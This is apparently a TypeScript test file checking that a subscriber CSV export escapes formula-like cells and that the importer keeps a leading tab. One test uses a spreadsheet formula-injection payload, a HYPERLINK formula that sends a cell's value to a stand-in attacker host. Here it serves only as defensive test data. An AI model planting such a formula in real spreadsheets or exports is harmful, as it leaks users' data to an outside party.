import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { parseSubscriberCsv } from "../../../../functions/api/csv/subscriber-csv.js";
import { subscriberCsvStream } from "../../../../functions/api/csv/subscriber-export.js";
import type { Subscriber } from "../../../../functions/domain/subscriber.js";

const subscriber = (name: string): Subscriber => ({
  id: "x",
  email: "reader@example.org",
  name,
  status: "active",
  topics: ["world"],
  cadence: "instant",
  consent: { at: "2026-01-01T00:00:00.000Z", source: "import" },
  createdAt: "2026-01-01T00:00:00.000Z",
  updatedAt: "2026-01-01T00:00:00.000Z",
});

/** The export as a spreadsheet reads it: rows of cells, header first. */
async function exported(names: string[]): Promise<string[][]> {
  async function* pages() {
    yield names.map(subscriber);
  }
  const text = await new Response(subscriberCsvStream(pages())).text();
  return parse(text) as string[][];
}

describe("subscriber CSV and spreadsheets", () => {
  it("exports a formula-like name as text", async () => {
    const [, row] = await exported(['=HYPERLINK("http://evil.example/?"&A1,"Click")']);
    expect(row?.[1]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
  });

  it("property: no exported cell starts with =, +, -, @, tab or carriage return, and safe names pass unchanged", async () => {
    const risky = fc
      .tuple(fc.constantFrom("=", "+", "-", "@", "\t", "\r"), fc.string())
      .map(([a, b]) => a + b);
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.oneof(risky, fc.string()), { minLength: 1, maxLength: 8 }),
        async (names) => {
          const rows = (await exported(names)).slice(1);
          for (const [i, row] of rows.entries()) {
            for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
            const name = names[i] ?? "";
            expect(row[1]).toBe(/^[=+\-@\t\r]/.test(name) ? `'${name}` : name);
          }
        },
      ),
      { numRuns: 100 },
    );
  });

  it("imports a tab-led cell with its tab, so trimming never makes a formula of it", () => {
    const [row] = parseSubscriberCsv("email,name\n reader@example.org ,\t=1+1\n");
    expect(row?.fields).toEqual({ email: "reader@example.org", name: "\t=1+1" });
  });
});
